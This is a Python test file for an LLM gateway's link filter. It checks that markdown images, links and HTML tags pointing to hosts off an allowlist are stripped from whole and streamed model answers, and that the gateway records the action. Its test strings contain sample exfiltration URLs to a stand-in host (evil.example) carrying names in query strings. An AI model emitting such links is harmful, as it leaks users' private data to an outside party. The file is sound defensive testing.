"""Link exfiltration: images and links to hosts outside the app's list are stripped, whole or streamed."""

from __future__ import annotations

import pytest

from phigate.backends.scripted import ScriptedBackend, chat_body, chat_chunks
from phigate.guards.links import LinkFilter
from tests.conftest import SCRIPTED_POLICY

CASES = [
    ("See ![chart](https://evil.example/c.png?q=Jane%20Roe) here.", "See  here."),
    ("Read [our guide](https://evil.example/x?d=123) now", "Read our guide now"),
    (
        "Our [refill page](https://shop.example/refill) and [help](/help)",
        "Our [refill page](https://shop.example/refill) and [help](/help)",
    ),
    ("cdn ![logo](https://cdn.shop.example/l.png)", "cdn ![logo](https://cdn.shop.example/l.png)"),
    ('pixel <img src="https://evil.example/p.gif?x=1"> done', "pixel  done"),
    ('a <a href="https://evil.example/?s=1">link</a>', "a link</a>"),
    (
        "mail [us](mailto:care@clinic.example), [1] and [x] (y)",
        "mail [us](mailto:care@clinic.example), [1] and [x] (y)",
    ),
    ("no links at all [just brackets]", "no links at all [just brackets]"),
]


def _filter() -> LinkFilter:
    return LinkFilter(["shop.example", "*.shop.example"])


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_whole_answers(text: str, expected: str) -> None:
    assert _filter().clean(text) == expected


@pytest.mark.parametrize(("text", "expected"), CASES)
@pytest.mark.parametrize("size", [1, 2, 5, 11])
def test_streamed_answers(text: str, expected: str, size: int) -> None:
    f = _filter()
    out = "".join(f.feed("0.content", text[i : i + size]) for i in range(0, len(text), size)) + f.finish("0.content")
    assert out == expected


def test_an_unclosed_bracket_is_not_held_forever() -> None:
    f = LinkFilter()
    text = "[" + "x" * 3000
    out = f.feed("0.content", text[:1000]) + f.feed("0.content", text[1000:]) + f.finish("0.content")
    assert out == text


@pytest.mark.parametrize("stream", [False, True])
def test_the_gateway_strips_exfiltration_links_and_records_it(make_gateway, stream: bool) -> None:
    answer = "Done. ![x](https://evil.example/?q=[PERSON_1]) Visit [us](https://shop.example/)."

    def handler(call):
        return chat_chunks(answer, "scripted") if call.stream else chat_body(answer, "scripted")

    policy = SCRIPTED_POLICY.replace(
        "    models: [scripted]\n", "    models: [scripted]\n    link_hosts: [shop.example]\n", 1
    )
    gw = make_gateway(policy, backends={"scripted": ScriptedBackend(handler), "other-model": ScriptedBackend()})
    client = gw.client()
    if stream:
        chunks = list(
            client.chat.completions.create(model="scripted", messages=[{"role": "user", "content": "hi"}], stream=True)
        )
        text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    else:
        text = (
            client.chat.completions.create(model="scripted", messages=[{"role": "user", "content": "hi"}])
            .choices[0]
            .message.content
        )
    assert text == "Done.  Visit [us](https://shop.example/)."
    assert list(gw.gateway.ledger.read())[-1].guards["exfil_links"] == "strip"
